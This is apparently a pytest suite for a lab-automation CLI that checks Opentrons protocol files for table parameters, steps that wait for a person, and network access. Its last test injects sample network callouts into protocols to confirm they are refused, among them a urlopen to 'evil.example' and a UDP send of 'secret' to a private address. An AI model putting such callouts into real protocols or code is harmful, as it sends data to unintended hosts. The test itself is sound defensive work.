"""nextplate protocol check of files that take tables, pause for a person, or reach for the network."""

from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from controller.cli import make_app
from controller.protocolfile import LabNow, check_file
from controller.protocoltables import read_tables
from nextplate.errors import DataError
from protocols.problems import ProblemKind
from protocols.render import render, render_for_csv
from protocols.render_csv import steps_csv
from tests.support.protocol_lab import SmallLab

LAB = SmallLab("flex", compounds=("C1", "C2", "C3"))
PLAN = LAB.protocol()
HAND = """
requirements = {"robotType": "Flex", "apiLevel": "2.20"}
def run(ctx):
    plate = ctx.load_labware("corning_96_wellplate_360ul_flat", "C2", label="P-1")
    trough = ctx.load_labware("nest_12_reservoir_15ml", "B2", label="R")
    tips = ctx.load_labware("opentrons_flex_96_tiprack_50ul", "C1")
    ctx.load_trash_bin("A3")
    one = ctx.load_instrument("flex_1channel_50", "left", tip_racks=[tips])
    trough["A1"].load_liquid(ctx.define_liquid("water", "w", "#0000ff"), 5000)
    one.transfer(10, trough["A1"], plate["A1"])
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("tables")
    whole = steps_csv(PLAN, 0)
    (folder / "steps.csv").write_text(whole)
    (folder / "cut.csv").write_text(whole[: len(whole) // 2])
    (folder / "empty.csv").write_text("")
    (folder / "binary.csv").write_bytes(b"nextplate \xff\xfe")
    (folder / "takes.py").write_text(render_for_csv(PLAN))
    (folder / "plain.py").write_text(render(PLAN, 0))
    rows = "".join(
        f"{w.source_plate},{w.source_well},{w.compound_id},{w.volume_nl},{w.concentration_um},{w.labware}\n"
        for w in LAB.wells
    )
    header = "source_plate,source_well,compound_id,volume_nl,concentration_um,labware\n"
    (folder / "stock.csv").write_text(header + rows)
    return folder


def check(folder: Path, file: str, *words: str) -> Result:
    tables = [w.replace("=", f"={folder}/", 1) if "=" in w and not w.endswith("=") else w for w in words]
    stock = ("--stock", str(folder / "stock.csv"))
    return CliRunner().invoke(make_app(), ["protocol", "check", str(folder / file), *stock, *tables])


@pytest.mark.opentrons
def test_a_file_with_its_table_is_followed_step_by_step(folder: Path) -> None:
    done = check(folder, "takes.py", "--table", "steps=steps.csv")
    assert done.exit_code == 0, done.output
    assert f"{len(PLAN.transfers)} draws followed" in done.output


WRONG = {
    "no table": ("takes.py", (), "takes table 'steps', and got none; add --table steps=FILE"),
    "wrong name": ("takes.py", ("--table", "step=steps.csv"), "no CSV parameter 'step'; it takes table 'steps'"),
    "one too many": (
        "takes.py",
        ("--table", "steps=steps.csv", "--table", "more=steps.csv"),
        "no CSV parameter 'more'; it takes table 'steps'",
    ),
    "cut": ("takes.py", ("--table", "steps=cut.csv"), "cut.csv): "),
    "takes none": ("plain.py", ("--table", "steps=steps.csv"), "no CSV parameter 'steps'; it takes no table"),
    "not there": ("takes.py", ("--table", "steps=none.csv"), "table steps: "),
    "empty": ("takes.py", ("--table", "steps=empty.csv"), "empty.csv is empty"),
    "no text": ("takes.py", ("--table", "steps=binary.csv"), "byte 10 is not UTF-8"),
    "twice": ("takes.py", ("--table", "steps=steps.csv", "--table", "steps=cut.csv"), "steps is "),
    "no file": ("takes.py", ("--table", "steps="), "write NAME=FILE"),
}


@pytest.mark.opentrons
@pytest.mark.parametrize("case", WRONG)
def test_a_wrong_table_is_one_clear_error(folder: Path, case: str) -> None:
    file, words, said = WRONG[case]
    done = check(folder, file, *words)
    assert isinstance(done.exception, DataError), done.output
    assert said in str(done.exception)
    assert "\n" not in str(done.exception)


def test_only_a_vendors_file_takes_tables(folder: Path) -> None:
    (folder / "protocol.json").write_text(PLAN.to_json())
    with pytest.raises(DataError, match="only an Opentrons file"):
        check_file(folder / "protocol.json", LabNow(), tables=read_tables([f"steps={folder / 'steps.csv'}"]))


WAITS = {
    "pause": ('    ctx.pause("swap the trough")\n', "the file pauses ('swap the trough') and waits for a person"),
    "carried by hand": ('    ctx.move_labware(plate, "D2")\n', "waits for a person to carry P-1 (manualMoveWithPause)"),
}


@pytest.mark.opentrons
@pytest.mark.parametrize("case", WAITS)
def test_what_waits_for_a_person_needs_one(tmp_path: Path, case: str) -> None:
    line, words = WAITS[case]
    path = tmp_path / "hand.py"
    path.write_text(HAND + line)
    (problem,) = check_file(path, LabNow()).problems
    assert problem.kind is ProblemKind.ATTENDED
    assert words in problem.message
    assert f"command {problem.step}: (after draw 1)" in problem.message
    attended = check_file(path, LabNow(), is_attended=True)
    assert attended.problems == ()
    assert any(words in note and "somebody has to stand by" in note for note in attended.notes)
    done = CliRunner().invoke(make_app(), ["protocol", "check", str(path), "--attended"])
    assert done.exit_code == 0, done.output


REACHES = {
    "name": ('urllib.request.urlopen("http://evil.example:8080/x")', "reaches for evil.example port 8080"),
    "address": ('socket.create_connection(("10.0.0.3", 99))', "reaches for 10.0.0.3 port 99"),
    "datagram": (
        'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("10.0.0.4", 9))',
        "reaches for 10.0.0.4 port 9",
    ),
    "connected": ('socket.socket().connect(("192.0.2.7", 80))', "reaches for 192.0.2.7 port 80"),
    "lookup": ('socket.gethostbyname("host.example")', "reaches for host.example"),
    "backwards": ('socket.gethostbyaddr("192.0.2.9")', "reaches for 192.0.2.9"),
}


@pytest.mark.opentrons
@pytest.mark.parametrize("case", REACHES)
def test_a_file_that_reaches_for_the_network_is_refused_with_the_host(tmp_path: Path, case: str) -> None:
    line, words = REACHES[case]
    path = tmp_path / "hand.py"
    path.write_text(f"import socket, urllib.request\n{HAND}    {line}\n")
    found = check_file(path, LabNow())
    assert [p.kind for p in found.problems] == [ProblemKind.STEP]
    assert words in found.problems[0].message
